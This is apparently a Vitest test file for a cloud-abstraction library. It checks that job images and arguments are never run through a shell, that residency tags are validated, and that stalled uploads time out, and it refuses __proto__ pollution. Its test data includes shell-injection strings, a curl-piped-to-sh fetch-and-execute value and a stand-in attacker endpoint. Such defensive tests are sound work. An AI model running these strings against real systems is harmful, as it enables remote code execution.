import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { type ComputeAdapter, type LocalJobStatus, toComputeJobRequest } from '@polycloud/core/spi';
import { createAdapterRegistry, createLocalComputeAdapter, createPolycloud, isPolycloudError } from '@polycloud/core';
import { loadDataJob } from '@polycloud/core/config';
import { memoryStorageAdapterFactory } from '@polycloud/core/testing';

const dir = mkdtempSync(join(tmpdir(), 'pc-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function until(adapter: ComputeAdapter, jobId: string): Promise<LocalJobStatus> {
  for (let i = 0; i < 400; i++) {
    const s = (await adapter.status({ physicalId: 'dev', options: {} }, jobId)) as LocalJobStatus;
    if (s.state !== 'RUNNING' && s.state !== 'PENDING') return s;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('the job did not finish');
}

describe('images and arguments are passed literally, never through a shell (issue 13)', () => {
  const pwned = join(dir, 'pwned');
  const adapter = createLocalComputeAdapter({ logDir: dir, images: { [`alpine; touch ${pwned} #`]: [process.execPath, '-e', 'console.log("image-entry")'] } });
  afterAll(() => adapter.close?.());

  it('an image naming a shell command is a lookup key, not a command: nothing runs it', async () => {
    const job = loadDataJob({ apiVersion: 'batch.mcp/v1', kind: 'DataJob', metadata: { name: 'inject-image' }, spec: { image: `alpine; touch ${pwned} #` } });
    expect(job.image).toBe(`alpine; touch ${pwned} #`);
    const done = await until(adapter, (await adapter.submit({ physicalId: 'dev', options: {} }, toComputeJobRequest(job, 'inject-image'))).jobId);
    expect(done.state).toBe('SUCCEEDED');
    expect(existsSync(pwned)).toBe(false);
  });

  it('$(…), ; and backticks in argv reach the process as they are', async () => {
    const marker = join(dir, 'expanded');
    const args = [`$(touch ${marker})`, `; touch ${marker} #`, `\`touch ${marker}\``, '$HOME'];
    const job = loadDataJob({
      apiVersion: 'batch.mcp/v1',
      kind: 'DataJob',
      metadata: { name: 'inject-args' },
      spec: { image: '$(curl http://127.0.0.1:9/x | sh)', command: [process.execPath, '-e', 'console.log(JSON.stringify(process.argv.slice(1)))'], args },
    });
    const submitted = (await adapter.submit({ physicalId: 'dev', options: {} }, toComputeJobRequest(job, 'inject-args'))) as LocalJobStatus;
    const done = await until(adapter, submitted.jobId);
    expect(done.state).toBe('SUCCEEDED');
    expect(existsSync(marker)).toBe(false);
    const log = readFileSync(done.logLocation!.replace(/^file:\/\//, ''), 'utf8');
    expect(log).toContain(JSON.stringify(args));
  });
});

describe('createPolycloud checks residency tags (issue 13: only the config loader did)', () => {
  const registry = createAdapterRegistry([memoryStorageAdapterFactory]);
  const create = (residency: string, zones: Record<string, string[]> = { eu: ['eu-*'] }) =>
    createPolycloud({
      registry,
      residency: zones,
      providers: [{ name: 'a', type: 'memory', buckets: ['b'] }],
      resources: [{ resource_id: 'lb', type: 'LogicalBucket', tags: { residency }, providers: [{ cloud: 'a', physical_id: 'b', region: 'eu-west-1' }] }],
    });

  it('a tag naming no zone and no region of the bindings → CONFIG_INVALID at resources[0].tags.residency', () => {
    for (const tag of ['mars', 'constructor', 'eu,mars']) {
      let error: unknown;
      try {
        create(tag);
      } catch (e) {
        error = e;
      }
      expect(isPolycloudError(error, 'CONFIG_INVALID'), tag).toBe(true);
      expect((error as { context: { path: unknown } }).context.path).toEqual(['resources', 0, 'tags', 'residency']);
    }
  });

  it('a zone, or a region of a binding, is accepted', async () => {
    await create('eu').close();
    await create('eu-west-1', {}).close();
  });
});

describe('a stalled upload through the facade (memory)', () => {
  const registry = createAdapterRegistry([memoryStorageAdapterFactory]);
  it('timeoutMs → TIMEOUT, an AbortSignal → ABORTED, within the bound, and no partial object', async () => {
    const polycloud = createPolycloud({
      registry,
      providers: [{ name: 'a', type: 'memory', buckets: ['b'] }],
      resources: [{ resource_id: 'lb', type: 'LogicalBucket', providers: [{ cloud: 'a', physical_id: 'b' }] }],
    });
    const bucket = polycloud.bucket('lb');
    const started = Date.now();
    await expect(bucket.put('k', new Readable({ read() {} }), { timeoutMs: 500 })).rejects.toMatchObject({ code: 'TIMEOUT' });
    const partial = new Readable({ read() {} });
    partial.push('some bytes');
    await expect(bucket.put('k', partial, { signal: AbortSignal.timeout(300) })).rejects.toMatchObject({ code: 'ABORTED' });
    expect(Date.now() - started).toBeLessThan(5000);
    await expect(bucket.head('k')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await polycloud.close();
  }, 15_000);
});

describe('createPolycloud: provider objects given in code', () => {
  it('a __proto__ key in a provider is refused at its path, not silently dropped', () => {
    const provider = JSON.parse('{"name":"a","type":"memory","__proto__":{"endpoint":"http://attacker.invalid"}}') as Record<string, unknown>;
    try {
      createPolycloud({ registry: createAdapterRegistry([memoryStorageAdapterFactory]), providers: [provider as never], resources: [] });
      expect.unreachable('accepted');
    } catch (e) {
      expect(e).toMatchObject({ code: 'CONFIG_INVALID' });
      expect((e as { context: { issues: { path: unknown[] }[] } }).context.issues[0]!.path).toEqual(['providers', 0, '__proto__']);
    }
  });
});
